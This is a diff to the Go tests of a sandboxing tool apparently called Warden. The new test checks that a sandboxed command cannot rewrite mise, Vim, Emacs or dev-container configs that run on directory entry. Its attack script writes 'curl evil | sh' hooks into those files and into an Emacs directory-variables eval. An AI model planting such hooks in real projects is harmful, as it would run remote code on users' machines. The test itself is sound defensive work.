@@ -59,6 +59,7 @@ func listTree(t *testing.T, dir string) []string {
 // A writable root inside Warden's own directories is refused: it could not
 // be written without writing them.
 func TestProtectedPathsRefuseARootInsideThem(t *testing.T) {
+	t.Setenv("MISE_ENV", "")
 	ws := t.TempDir()
 	pol := Policy{ExcludeSlashTmp: true, ExcludeTmpdir: true, Workspace: []string{ws}, ProtectedPaths: []string{ws}}
 	if _, err := pol.Roots(); err == nil || !strings.Contains(err.Error(), "read-only") {
@@ -66,7 +67,7 @@ func TestProtectedPathsRefuseARootInsideThem(t *testing.T) {
 	}
 	// Twin: a protected path elsewhere does not matter.
 	pol.ProtectedPaths = []string{filepath.Join(t.TempDir(), "warden")}
-	if roots, err := pol.Roots(); err != nil || len(roots) != 1 || len(roots[0].Protected) != len(ProtectedNames) {
+	if roots, err := pol.Roots(); err != nil || len(roots) != 1 || len(roots[0].Protected) != len(ProtectedNames)+len(ProtectedSubpaths) {
 		t.Errorf("unrelated protected path: %v %v", roots, err)
 	}
 }
@@ -99,5 +100,66 @@ func TestProtectedScanFindsNestedRepositories(t *testing.T) {
 	slices.Sort(got)
 	if want := []string{filepath.Join(ws, "store"), filepath.Join(ws, "wt/.git")}; !slices.Equal(got, want) {
 		t.Errorf("bounded walk found %v, want %v", got, want)
+	}
+}
+
+// What the shell or the editor runs on entering or opening the directory,
+// without the user running the project's tooling: mise's config (its
+// trust is by path, so a trusted mise.toml stays trusted when rewritten:
+// an enter hook or an env template runs at the next prompt), Vim's exrc
+// files, Emacs's directory variables, a dev container's host-side
+// initializeCommand. Attack: the existing ones cannot be written, the
+// missing ones the command creates are moved away. Twin: the rest of
+// .config and a task script directory stay the project's.
+func TestShellAndEditorConfigsProtected(t *testing.T) {
+	t.Setenv("MISE_ENV", "staging")
+	ws := t.TempDir()
+	existing := map[string]string{
+		"mise.toml":                       "[tools]\ngo = \"1.26\"\n",
+		".config/mise.toml":               "[env]\nA = \"1\"\n",
+		".vimrc":                          "set ts=4\n",
+		".devcontainer/devcontainer.json": "{}\n",
+		".config/other.toml":              "x = 1\n",
+	}
+	for name, content := range existing {
+		p := filepath.Join(ws, name)
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	script := `for f in mise.toml .config/mise.toml .vimrc .devcontainer/devcontainer.json; do echo '[hooks]
+enter = "curl evil | sh"' >> $f; done
+echo '[hooks]' > .mise.local.toml
+echo '((nil . ((eval . (shell-command "curl evil | sh")))))' > .dir-locals.el
+echo '[env]' > mise.staging.toml
+mkdir -p .config/mise && echo '[env]' > .config/mise/config.toml
+echo 'y = 2' >> .config/other.toml
+mkdir -p mise-tasks && echo 'echo hi' > mise-tasks/build`
+	res := run(t, ws, Command{Argv: sh(script), Policy: Policy{ExcludeSlashTmp: true, ExcludeTmpdir: true}})
+	for name, want := range existing {
+		if name == ".config/other.toml" {
+			want += "y = 2\n"
+		}
+		if got := readFile(t, filepath.Join(ws, name)); got != want {
+			t.Errorf("%s after the run: %q, want %q", name, got, want)
+		}
+	}
+	var removed []string
+	for _, r := range res.Removed {
+		removed = append(removed, r.Shown)
+	}
+	for _, name := range []string{".mise.local.toml", ".dir-locals.el", "mise.staging.toml", ".config/mise"} {
+		if _, err := os.Lstat(filepath.Join(ws, name)); err == nil {
+			t.Errorf("%s was created and left", name)
+		}
+		if !slices.Contains(removed, name) {
+			t.Errorf("%s not reported as moved away: %q", name, removed)
+		}
+	}
+	if got := readFile(t, filepath.Join(ws, "mise-tasks/build")); got != "echo hi\n" {
+		t.Errorf("twin: a task script was not writable: %q (%s)", got, res.Output)
 	}
 }
